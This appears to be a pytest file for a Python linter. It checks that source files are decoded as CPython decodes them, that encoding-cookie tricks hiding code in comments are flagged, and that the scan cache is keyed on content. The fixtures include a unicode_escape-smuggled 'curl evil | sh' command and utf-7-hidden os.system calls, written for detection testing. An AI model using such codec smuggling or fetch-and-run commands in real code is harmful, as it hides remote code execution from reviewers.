"""Python sources are decoded exactly as CPython decodes them (PEP 263 cookie,
BOM), codecs that hide code get UL409, and the scan cache is keyed on content
(issue 18)."""

from __future__ import annotations

import ast
import os

import pytest
from conftest import lint_json, run_cli
from hypothesis import given, settings, strategies as st

from utcp_lint.pyscan.source import decode_python, smuggles

SMUGGLED = b'# -*- coding: unicode_escape -*-\nimport os\n# harmless \\x0aos.system("curl evil | sh " + cmd)\n'


def _lint(tmp_path, name, data, *args):
    p = tmp_path / name
    p.write_bytes(data)
    return lint_json("--no-cache", *args, p)


def test_unicode_escape_comment_hides_a_call_that_is_found(tmp_path):
    code, out = _lint(tmp_path, "smug.py", SMUGGLED)
    rules = sorted(f["rule"] for f in out["findings"])
    assert code == 1 and not out["errors"]
    assert "UL409" in rules and "UL400" in rules, rules
    ul409 = next(f for f in out["findings"] if f["rule"] == "UL409")
    assert (ul409["line"], ul409["column"], ul409["severity"]) == (1, 15, "error")


@pytest.mark.parametrize(
    "cookie,hidden",
    [
        (b"utf-7", b"# +AAo-os.system(cmd)\n"),
        (b"raw_unicode_escape", b"# \\u000aos.system(cmd)\n"),
    ],
)
def test_other_smuggling_codecs(tmp_path, cookie, hidden):
    code, out = _lint(tmp_path, "s.py", b"# coding: " + cookie + b"\nimport os\n" + hidden)
    assert {"UL409", "UL400"} <= {f["rule"] for f in out["findings"]}, out


def test_smuggling_codec_is_reported_even_without_a_sink(tmp_path):
    code, out = _lint(tmp_path, "s.py", b"# coding: unicode_escape\nx = 1\n")
    assert [f["rule"] for f in out["findings"]] == ["UL409"] and code == 1


def test_latin1_cookie_file_is_accepted_and_scanned(tmp_path):
    data = b'# -*- coding: latin-1 -*-\nimport subprocess\ns = "caf\xe9"\nsubprocess.run(cmd, shell=True)\n'
    code, out = _lint(tmp_path, "l.py", data)
    assert not out["errors"], out["errors"]
    f = [f for f in out["findings"] if f["rule"] == "UL401"]
    assert f and f[0]["line"] == 4


def test_clean_latin1_and_utf8_files_stay_clean(tmp_path):
    code, out = _lint(tmp_path, "a.py", b"# coding: latin-1\nNAME = 'caf\xe9'\n")
    assert code == 0 and not out["findings"] and not out["errors"]
    code, out = _lint(tmp_path, "b.py", b"\xef\xbb\xbf# coding: utf-8\nNAME = 'caf\xc3\xa9'\n")
    assert code == 0 and not out["findings"] and not out["errors"]


def test_refused_encodings_are_one_line_errors(tmp_path):
    for data in (
        b"# coding: rot13\nx = 1\n",
        b"# coding: nonexistent\nx = 1\n",
        b"\xef\xbb\xbf# coding: latin-1\nx = 1\n",
        b"x = '\xff'\n",
    ):
        code, out = _lint(tmp_path, "r.py", data)
        assert code == 2 and len(out["errors"]) == 1, (data, out)
        assert "internal error" not in out["errors"][0]["message"]


CODECS = [
    "utf-8",
    "latin-1",
    "cp1252",
    "utf-7",
    "unicode_escape",
    "raw_unicode_escape",
    "cp037",
    "utf-16",
    "rot13",
    "hex",
    "idna",
    "euc-jp",
    "shift_jis",
    "koi8-r",
    "mac-roman",
    "nonexistent",
    "punycode",
    "undefined",
    "uu_codec",
]
BODIES = [b"x = 1\n", b"s = '\xe9\xa9'\n", b"# \\x0ay = 2\n", b"# +AAo-z = 3\n", b"q = '\\u0041'\n"]


@pytest.mark.parametrize("codec", CODECS)
@pytest.mark.parametrize("bom", [False, True])
def test_decoding_agrees_with_cpython(codec, bom):
    """Our decoded text parses to the same module as CPython's own reading of
    the bytes (ast.parse on bytes applies the BOM and cookie rules itself)."""
    for body in BODIES:
        data = (b"\xef\xbb\xbf" if bom else b"") + b"# -*- coding: " + codec.encode() + b" -*-\n" + body
        try:
            want = ast.dump(ast.parse(data))
        except (SyntaxError, ValueError, UnicodeDecodeError, LookupError):
            want = None
        text, enc, err = decode_python(data)
        if text is None:
            assert want is None, (codec, body, err)
            continue
        try:
            got = ast.dump(ast.parse(text))
        except SyntaxError:
            got = None
        assert got == want, (codec, bom, body)


HOSTILE_CODECS = {
    "a_punycode.py": (b"# coding: punycode\nimport os\n", 1, "punycode"),
    "b_undefined.py": (b"#!/usr/bin/env python\n# -*- coding: undefined -*-\nimport os\n", 2, "undefined"),
    "c_utf16.py": (b"# coding: utf-16\nimport os\n", "2, column 10", "utf-16"),
    "d_uu.py": (b"# coding: uu_codec\nimport os\n", 1, "uu_codec"),
    "e_nul.py": (b"import os\n" + b"x = 1\n" * 2000 + b"os.system('a' + y)\0\n", 1, "null bytes"),
}


def test_codec_failures_are_one_error_per_file_and_the_run_goes_on(tmp_path):
    """Issue 28: a `# coding: punycode` (or undefined) file aborted the whole run
    with an internal error: no other file linted, no SARIF written."""
    for name, (data, _line, _word) in HOSTILE_CODECS.items():
        (tmp_path / name).write_bytes(data)
    (tmp_path / "z_real.py").write_text("import os\n\ndef f(cmd):\n    os.system('ls ' + cmd)\n")
    code, out = lint_json("--no-cache", tmp_path)
    assert code == 2
    errors = {os.path.basename(e["path"]): e for e in out["errors"]}
    assert sorted(errors) == sorted(HOSTILE_CODECS), out["errors"]
    for name, (_data, line, word) in HOSTILE_CODECS.items():
        e = errors[name]
        where = line if isinstance(line, str) else f"{line}, column 1"
        assert f"(line {where})" in e["message"] and word in e["message"], e
        assert "internal error" not in e["message"] and "\n" not in e["message"], e
    assert [os.path.basename(f["path"]) for f in out["findings"]] == ["z_real.py"]  # the others were still linted
    sarif = tmp_path / "out.sarif"
    r = run_cli("--no-config", "--no-cache", "--format", "sarif", "-o", sarif, tmp_path)
    assert r.returncode == 2 and "internal error" not in r.stderr, r.stderr
    import json

    run = json.loads(sarif.read_text())["runs"][0]
    assert run["results"] and all(x["ruleId"].startswith("UL40") for x in run["results"]), run["results"]
    notes = run["invocations"][0]["toolExecutionNotifications"]
    assert len(notes) == len(HOSTILE_CODECS), notes


def test_smuggling_codecs_are_the_escape_and_shift_ones():
    for c in ("unicode-escape", "raw-unicode-escape", "utf-7", "cp037", "utf-16"):
        assert smuggles(c), c
    for c in ("utf-8", "utf-8-sig", "iso8859-1", "cp1252", "euc_jp", "koi8-r", "ascii"):
        assert not smuggles(c), c


def test_cache_is_keyed_on_content_not_mtime(tmp_path):
    """An in-place edit of the same size with the mtime restored must not be
    served the cached "clean" result."""
    work = tmp_path / "w"
    work.mkdir()
    p = work / "plugin.py"
    p.write_text("import os\nos.getcwd(c)\n")
    old = 1_600_000_000 * 10**9  # long before the cache write (no "racy" re-read)
    os.utime(p, ns=(old, old))
    st = os.stat(p)
    code, out = lint_json(p, cwd=work)
    assert code == 0 and not out["findings"]
    assert (work / ".utcp-lint-cache").is_dir()
    with open(p, "r+b") as fh:  # same inode, same size
        fh.write(b"import os\nos.system(c)\n")
    os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert os.stat(p).st_size == st.st_size and os.stat(p).st_mtime_ns == st.st_mtime_ns
    code, out = lint_json(p, cwd=work)
    assert code == 1 and [f["rule"] for f in out["findings"]] == ["UL400"], out


def _cpython_reading(data: bytes):
    """What CPython's tokenizer decides for these bytes: (text, codec) or None."""
    import codecs
    import io
    import tokenize

    try:
        enc, _ = tokenize.detect_encoding(io.BytesIO(data).readline)
        name = codecs.lookup(enc).name
        return data.decode(name), name
    except (SyntaxError, LookupError, UnicodeError, ValueError):
        return None


_PIECES = [b"a", b"\n", b"\r", b"#", b" ", b"coding", b":", b"=", b"utf-8", b"latin-1", b"\xe9", b"\xc3\xa9"]
_PIECES += [b"\xef\xbb\xbf", b"\xff", b"x = 1", b"-*-", b"\t"]


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=14))
def test_the_plain_utf8_fast_path_decides_as_cpython(pieces):
    """decode_python's short way (no BOM, no cookie, valid UTF-8; issue 25)
    gives CPython's text and codec wherever CPython reads the bytes, and an
    error exactly where CPython refuses them."""
    data = b"".join(pieces)
    want = _cpython_reading(data)
    text, enc, err = decode_python(data)
    if want is None:
        assert text is None and err is not None, data
    else:
        assert (text, enc, err) == (want[0], want[1], None), data
